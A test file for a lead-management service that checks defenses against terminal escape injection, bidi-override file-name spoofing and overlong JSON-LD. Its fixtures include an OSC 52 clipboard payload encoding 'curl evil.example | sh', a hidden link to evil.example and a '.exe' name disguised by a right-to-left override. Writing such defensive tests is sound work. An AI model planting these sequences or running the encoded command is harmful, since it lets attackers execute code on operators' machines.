/**
 * Stories of text built to attack the people who read leads: terminal escape sequences (window titles,
 * cleared screens, hidden OSC 8 links, OSC 52 clipboard writes) typed into a form or served in a website's
 * JSON-LD, and kilobyte-long JSON-LD types. The forms refuse control characters; whatever reaches the operator
 * CLI or a team mail anyway (an older row, a fetched page) is shown as text, never obeyed, and stays short.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasControlCharacter } from '@sichtwerk/forms/text-rules';
import { leadRegistry } from './support/lead-registry.ts';
import { runCli } from '../src/cli/run-cli.ts';
import { expectErrorAnswer } from './support/error-answer.ts';
import { healthyHome, startFixtureSite, type FixtureSite } from './support/fixture-site.ts';
import { validContactMessage } from './support/form-bodies.ts';
import { startSmtpSink, type SmtpSink } from './support/smtp-sink.ts';
import { createTestDatabase, type TestDatabase } from './support/test-database.ts';
import { salesEmail, startTestService, validRequest, type TestService } from './support/test-service.ts';
import { waitFor } from './support/wait-for.ts';
import { insertLead } from './support/lead-rows.ts';

const escapes = {
  title: '\u001b]0;Sie wurden gehackt\u0007',
  clear: '\u001b[2J',
  link: '\u001b]8;;https://evil.example\u001b\\hier klicken\u001b]8;;\u001b\\',
  clipboard: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  c1: '\u009b31m',
};
const longType = `LocalBusiness${'X'.repeat(5_000)}`;

let site: FixtureSite;
let db: TestDatabase;
let smtp: SmtpSink;
let service: TestService;

beforeAll(async () => {
  const phone = '030 9876543';
  const home = healthyHome(phone).replace(
    '"@type":"Plumber"',
    `"@type":["Plumber ${escapes.clipboard.replace('\u001b', '\\u001b').replace('\u0007', '\\u0007')}","${longType}"]`,
  );
  site = await startFixtureSite({ '/': { body: home } });
  db = await createTestDatabase();
  smtp = await startSmtpSink();
  service = await startTestService({
    databaseUrl: db.url,
    smtpUrl: smtp.url,
    env: { WEBSITE_CHECK_CONCURRENCY: '1', WEBSITE_CHECK_WAIT_MS: '5000', WEBSITE_CHECK_ALLOW_HOSTS: site.hostPort },
  });
});

afterAll(async () => {
  await service?.close();
  await smtp?.close();
  await db?.drop();
  await site?.close();
});

const cliEnv = () => ({
  ...process.env,
  DATABASE_URL: db.url,
  REDIS_URL: service.config.redisUrl,
  QUEUE_PREFIX: service.config.queuePrefix,
  LOG_LEVEL: 'silent',
});

async function cli(...argv: string[]): Promise<string> {
  let out = '';
  const io = { out: (text: string) => (out += text), err: (text: string) => (out += text) };
  await runCli(leadRegistry, argv, cliEnv(), io);
  return out;
}

describe('when someone types terminal escape sequences into a form', () => {
  it.each(Object.entries(escapes))('then a name with a %s sequence is refused in German and nothing is stored', async (_name, sequence) => {
    const before = (await db.pool.query('SELECT count(*)::int AS n FROM (leads JOIN contact_messages USING (id)) AS contact_messages'))
      .rows[0].n as number;
    const error = await expectErrorAnswer(
      await service.postTo('/api/contact-messages', { ...validContactMessage, name: `Anna ${sequence}` }),
      400,
      'VALIDIERUNG_FEHLGESCHLAGEN',
    );
    expect(JSON.stringify(error)).toContain('Steuerzeichen');
    expect(
      (await db.pool.query('SELECT count(*)::int AS n FROM (leads JOIN contact_messages USING (id)) AS contact_messages')).rows[0].n,
    ).toBe(before);
  });

  it('then a message with line breaks and a tab (as a textarea sends it) is still accepted', async () => {
    const response = await service.postTo('/api/contact-messages', {
      ...validContactMessage,
      message: 'Hallo,\r\n\r\nPreise:\tbitte schicken',
    });
    expect(response.status).toBe(201);
  });
});

describe('when an older row holds escape sequences and the operator looks at it', () => {
  it('then `leads list` and `leads show` print them as visible text, not as commands for the terminal', async () => {
    const hostile = Object.values(escapes).join(' ');
    const id = await insertLead(db.pool, 'contact_messages', {
      name: `Anna ${hostile}`,
      email: 'anna.escape@example.de',
      message: `Zeile 1\r\nZeile 2 ${hostile}`,
      submitted_at: new Date(),
    });
    const list = await cli('list', '--kind', 'contact-messages');
    const show = await cli('show', id);
    for (const output of [list, show]) {
      expect(hasControlCharacter(output, true)).toBe(false);
      expect(output).toContain('\\x1B]0;Sie wurden gehackt\\x07');
    }
    expect(show).toContain('\\x1B]52;c;');
    expect(show).toContain('Zeile 2');
  });
});

describe('when a visitor hides a bidi override and zero-width spaces in a name and a message', () => {
  it('then the lead is stored exactly as typed, and `leads list` and `leads show` print the characters as \\u202E-style text', async () => {
    const name = 'Rechnung\u202Etxt.exe';
    const message = 'Bitte\u200B zurückrufen\u2066, danke.';
    const response = await service.postTo('/api/contact-messages', {
      ...validContactMessage,
      name,
      message,
      email: 'bidi.probe@example.de',
    });
    expect(response.status).toBe(201);
    const { id } = (await response.json()) as { id: string };
    const stored = await db.pool.query<{ name: string; message: string }>(
      'SELECT name, message FROM (leads JOIN contact_messages USING (id)) AS contact_messages WHERE id = $1',
      [id],
    );
    expect(stored.rows[0]).toEqual({ name, message });

    const list = await cli('list', '--kind', 'contact-messages');
    const show = await cli('show', id);
    for (const output of [list, show]) {
      expect(output).not.toMatch(/[\u202E\u200B\u2066]/u);
      expect(output).toContain('Rechnung\\u202Etxt.exe');
    }
    expect(show).toContain('Bitte\\u200B zurückrufen\\u2066, danke.');
  });

  it("then the team's notification marks each as the desk does, [U+202E], in subject, text and HTML, and obeys none", async () => {
    const response = await service.postTo('/api/contact-messages', {
      ...validContactMessage,
      name: 'Angebot\u202Efdp.exe',
      message: 'Bitte\u200B zurückrufen\u2066, danke.',
      email: 'bidi.team@example.de',
    });
    expect(response.status).toBe(201);
    const mail = await waitFor('the team notification', () =>
      smtp.to(salesEmail).find((received) => received.parsed.subject?.includes('Angebot')),
    );
    const { subject = '', text = '', html = '' } = mail.parsed;
    for (const part of [subject, text, html]) expect(part).not.toMatch(/[\u202E\u200B\u2066]/u);
    expect(subject).toBe('Neue Kontaktanfrage: Angebot[U+202E]fdp.exe');
    expect(text).toContain('Angebot[U+202E]fdp.exe');
    expect(text).toContain('Bitte[U+200B] zurückrufen[U+2066], danke.');
    expect(html).toMatch(/Angebot<mark [^>]*title="Verstecktes Steuerzeichen für die Schreibrichtung"[^>]*>U\+202E<\/mark>fdp\.exe/);
    expect(html).toMatch(/Bitte<mark [^>]*title="Unsichtbares Zeichen"[^>]*>U\+200B<\/mark> zurückrufen/);
  });
});

describe('when the website named in an analysis request serves escape sequences and a 5,000-character type in its JSON-LD', () => {
  it('then the sales mail and `leads show` carry neither raw control characters nor the long type', async () => {
    const response = await service.post({ ...validRequest, website: site.url, phone: '030 9876543', company: 'JSON-LD Test' });
    expect(response.status).toBe(201);
    const { id } = (await response.json()) as { id: string };
    const notification = await waitFor(
      'sales notification with the check',
      () => smtp.to(salesEmail).find((mail) => mail.parsed.messageId?.includes(id) && mail.parsed.text?.includes('Website-Schnellcheck')),
      20_000,
    );
    const text = notification.parsed.text ?? '';
    expect(text).toContain('Strukturierte Daten als Plumber');
    expect(hasControlCharacter(text, true)).toBe(false);
    expect(hasControlCharacter(notification.parsed.html ?? '', true)).toBe(false);
    expect(text).not.toContain('X'.repeat(200));
    const show = await cli('show', id);
    expect(hasControlCharacter(show, true)).toBe(false);
    expect(show).not.toContain('X'.repeat(200));
  });
});
